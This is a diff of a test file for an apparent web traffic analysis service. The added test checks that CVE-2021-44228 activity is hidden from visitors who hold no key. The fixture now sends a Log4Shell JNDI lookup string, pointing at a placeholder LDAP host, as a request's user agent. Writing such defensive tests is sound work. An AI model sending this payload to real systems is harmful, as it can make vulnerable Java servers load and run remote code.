@@ -13,7 +13,7 @@ let inside: Inside
 let key = ''
 const folder = mkdtempSync(join(tmpdir(), 'noisefloor-groups-'))
 const ip = '198.18.7.9'
-/** Stands in what was requested and nowhere else. */
+/** Stands in what was requested and nowhere else; the same request tries a CVE. */
 const secret = 'zq7secretzq7'
 
 beforeAll(async () => {
@@ -25,7 +25,8 @@ beforeAll(async () => {
   const now = Date.now()
   const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
   key = (await deps.installation.keys.create({ workspace: workspace.id, role: 'operator', now })).secret
-  const visits = [{ ...webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent: secret }, now - 60_000) }]
+  const userAgent = `\${jndi:ldap://${secret}/a}`
+  const visits = [webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent }, now - 60_000)]
   const { status } = await ask('/api/ingest/captures', key, {
     method: 'POST',
     body: new Uint8Array(captureOf(visits)),
@@ -130,6 +131,35 @@ describe('a plan without the groups of fields', () => {
     }
     const page = await (await ask(`/query/${encodeURIComponent(`path:*${secret}*`)}`)).text()
     expect(page).toContain('belongs to request analysis')
+  })
+
+  test('tells of CVEs what is everybody’s: neither which were seen, nor by which requests', async () => {
+    const cve = 'CVE-2021-44228'
+    const text = async (path: string, withKey = '') => (await ask(path, withKey)).text()
+    await eventually(
+      () => text(`/api/cves/${cve}`, key),
+      (told) => told.includes(secret),
+    )
+    for (const path of [
+      `/api/cves/${cve}`,
+      `/cves/${cve}`,
+      `/cves/${cve}.data`,
+      '/',
+      '/_.data',
+      '/tags',
+      '/trends/active',
+    ])
+      expect([path, (await text(path)).includes(secret)]).toEqual([path, false])
+    expect(await text('/')).not.toContain('CVEs seen')
+    expect(await text('/', key)).toContain(cve)
+    expect(JSON.parse(await text(`/api/cves/${cve}`))).toMatchObject({
+      activity: { paths: [], also_tried: [] },
+      request_metadata: { restricted_fields: ['activity.paths', 'activity.also_tried'] },
+    })
+    const first = async (withKey: string) =>
+      (JSON.parse(await text('/api/tags/autocomplete', withKey)) as { cves: string[] }).cves[0]
+    expect([await first(''), await first(key)]).not.toEqual([cve, cve])
+    expect(await first(key)).toBe(cve)
   })
 
   test('counts no values of them', async () => {
